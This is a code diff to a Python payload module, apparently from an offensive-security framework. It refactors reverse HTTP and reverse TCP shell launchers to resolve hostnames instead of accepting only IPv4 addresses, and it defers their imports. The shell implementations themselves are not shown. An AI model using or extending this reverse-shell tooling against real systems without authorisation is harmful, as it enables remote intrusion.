@@ -13,8 +13,6 @@ Return: return_description
 
 import socket
 from abc import ABC, abstractmethod
-from payloads.reverse_http_shell import ReverseShellHTTPServerConnection
-from payloads.reverse_tcp_shell import ReverseShellTCPServerConnection
 
 class PayloadBase(ABC):
     """Base class for payloads."""
@@ -28,14 +26,14 @@ class PayloadBase(ABC):
         """Abstract method for executing the payload."""
         pass
 
-    def is_ip_valid(self, ip):
-            """Check if the provided IP address is valid."""
-            try:
-                socket.inet_pton(socket.AF_INET, ip)
-                return True
-            except socket.error:
-                return False
-                
+    def resolve_host(self, host):
+        """Return the IPv4 address of a host given as an address or a hostname, or None if it does not resolve."""
+        from utils.resolver import get_resolver
+        try:
+            return get_resolver().gethostbyname(host.strip())
+        except (socket.gaierror, UnicodeError, ValueError):
+            return None
+
     def is_port_valid(self, port):
         """Check if the provided port is valid."""
         try:
@@ -49,13 +47,16 @@ class ReverseHTTPShellPayload(PayloadBase):
 
     def execute_payload(self):
         """Execute the reverse http shell payload."""
+        from payloads.reverse_http_shell import ReverseShellHTTPServerConnection
         target_host = input("Target Host: ")
         target_port = input("Target Port: ")
         local_host = input("Local Host: ")
         local_port = input("Local Port: ")
 
-        if self.is_ip_valid(target_host) and self.is_port_valid(target_port) and self.is_ip_valid(local_host) and self.is_port_valid(local_port):
-            ReverseShellHTTPServerConnection(target_host=target_host, target_port=target_port, local_host=local_host, local_port=local_port, mode=self.mode)
+        target_address = self.resolve_host(target_host)
+        local_address = self.resolve_host(local_host)
+        if target_address and self.is_port_valid(target_port) and local_address and self.is_port_valid(local_port):
+            ReverseShellHTTPServerConnection(target_host=target_address, target_port=target_port, local_host=local_address, local_port=local_port, mode=self.mode)
         else:
             print("Invalid target host or port")
 
@@ -64,13 +65,16 @@ class ReverseTCPShellPayload(PayloadBase):
         
     def execute_payload(self):
         """Execute the reverse tcp shell payload."""
+        from payloads.reverse_tcp_shell import ReverseShellTCPServerConnection
         target_host = input("Target Host: ")
         target_port = input("Target Port: ")
         local_host = input("Local Host: ")
         local_port = input("Local Port: ")
 
-        if self.is_ip_valid(target_host) and self.is_port_valid(target_port) and self.is_ip_valid(local_host) and self.is_port_valid(local_port):
-            ReverseShellTCPServerConnection(target_host=target_host, target_port=target_port, local_host=local_host, local_port=local_port, mode=self.mode)
+        target_address = self.resolve_host(target_host)
+        local_address = self.resolve_host(local_host)
+        if target_address and self.is_port_valid(target_port) and local_address and self.is_port_valid(local_port):
+            ReverseShellTCPServerConnection(target_host=target_address, target_port=target_port, local_host=local_address, local_port=local_port, mode=self.mode)
         else:
             print("Invalid target host or port")
 